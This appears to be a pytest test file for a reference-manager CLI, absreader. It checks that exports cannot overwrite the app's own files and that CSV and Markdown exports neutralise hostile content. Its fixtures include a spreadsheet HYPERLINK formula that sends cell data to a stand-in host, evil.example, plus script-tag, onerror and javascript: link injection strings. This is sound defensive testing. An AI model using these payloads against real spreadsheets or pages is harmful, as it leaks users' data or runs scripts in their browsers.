"""Nothing an export does can destroy the library, and nothing in it runs when opened.

An export is refused anywhere inside absreader's own data, cache or config
folders (symlinks resolved), so the library file can never be replaced by a
text file. CSV cells that a spreadsheet would run as formulas are neutralised;
Markdown notes are escaped like titles (no raw HTML, no links).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from absreader.paths import get_paths

HOSTILE_TITLE = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
HOSTILE_NOTE = (
    "<script>alert(1)</script> <img src=x onerror=alert(2)>\n"
    "[click me](javascript:alert(3)) and <javascript:alert(4)>\n"
    "# not a heading\n- not a list\n1. not a list either"
)


def _papers(cli) -> list[dict]:
    result = cli("list", "--json", "--limit", "5000")
    assert result.code == 0, result.err
    return json.loads(result.out)


@pytest.mark.parametrize("where", ["library", "library-symlink", "index", "config", "data-dir"])
def test_export_into_absreader_folders_is_refused(sample, sample_home: Path, tmp_path: Path, where: str) -> None:
    paths = get_paths({"ABSREADER_HOME": str(sample_home)})
    before = _papers(sample)
    library_bytes = paths.library_file.read_bytes()
    target = {
        "library": paths.library_file,
        "library-symlink": tmp_path / "papers.bib",
        "index": paths.index_dir / "export.bib",
        "config": paths.config_file,
        "data-dir": paths.data_dir,
    }[where]
    if where == "library-symlink":
        target.symlink_to(paths.library_file)
    existed = target.exists()
    result = sample("export", "--all", "-o", target)
    assert result.code == 1
    assert "refusing to export into absreader's" in result.err and "nothing was written" in result.err
    assert "Traceback" not in result.err
    # The library is untouched and still opens with every paper.
    assert paths.library_file.read_bytes()[:16] == b"SQLite format 3\x00"
    assert paths.library_file.read_bytes() == library_bytes
    assert _papers(sample) == before
    assert target.exists() == existed
    leftovers = [p for p in paths.data_dir.parent.rglob("*.tmp")]
    assert leftovers == []


def test_export_beside_the_folders_still_works(sample, sample_home: Path) -> None:
    target = sample_home / "papers.bib"  # ABSREADER_HOME itself is not one of the three folders
    result = sample("export", "--all", "-o", target)
    assert result.code == 0, result.err
    assert target.read_text(encoding="utf-8").count("@misc{") == len(_papers(sample))


def _import_hostile(cli, tmp_path: Path) -> dict:
    source = tmp_path / "hostile.csv"
    with source.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["title", "abstract", "authors"])
        writer.writerow([HOSTILE_TITLE, "-2+3 is a formula in a spreadsheet", "@evil; +plus"])
        writer.writerow(["\tTabbed title", "\rstarts with CR", "Plain Author"])
    assert cli("import", source).code == 0
    papers = {p["title"]: p for p in _papers(cli)}
    paper = papers[HOSTILE_TITLE]
    assert cli("note", paper["key"], "=1+1 my note").code == 0
    assert cli("tag", paper["key"], "--", "-risky").code == 0
    return paper


def test_csv_export_neutralises_formulas_and_reimports_them(cli, home: Path, tmp_path: Path, monkeypatch) -> None:
    _import_hostile(cli, tmp_path)
    out = tmp_path / "out.csv"
    assert cli("export", "--all", "-o", out).code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, rows
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    assert "'" + HOSTILE_TITLE in cells
    # absreader reads its own guard back: the same title, note text and abstract.
    monkeypatch.setenv("ABSREADER_HOME", str(tmp_path / "fresh"))
    assert cli("import", out).code == 0
    again = {p["title"]: p for p in _papers(cli)}
    assert again[HOSTILE_TITLE]["abstract"] == "-2+3 is a formula in a spreadsheet"
    assert again[HOSTILE_TITLE]["authors"] == ["@evil", "+plus"]


def test_markdown_note_is_escaped_like_a_title(cli, tmp_path: Path) -> None:
    paper = _import_hostile(cli, tmp_path)
    assert cli("note", paper["key"], HOSTILE_NOTE).code == 0
    out = tmp_path / "list.md"
    assert cli("export", "--all", "-o", out).code == 0
    text = out.read_text(encoding="utf-8")
    tokens = MarkdownIt("commonmark").parse(text)
    inline = [t for tok in tokens for t in (tok.children or [])]
    assert not [t for t in inline if t.type in ("html_inline", "link_open")]
    assert not [t for t in tokens if t.type in ("html_block", "ordered_list_open")]
    assert [t.map[0] for t in tokens if t.type == "heading_open"] == [0]  # only "# All papers"
    html = MarkdownIt("commonmark").render(text)
    assert "<script" not in html and "<img" not in html and 'href="javascript' not in html
    # The words are all still there, shown literally.
    for words in ("alert(1)", "click me", "not a heading", "not a list either"):
        assert words in html
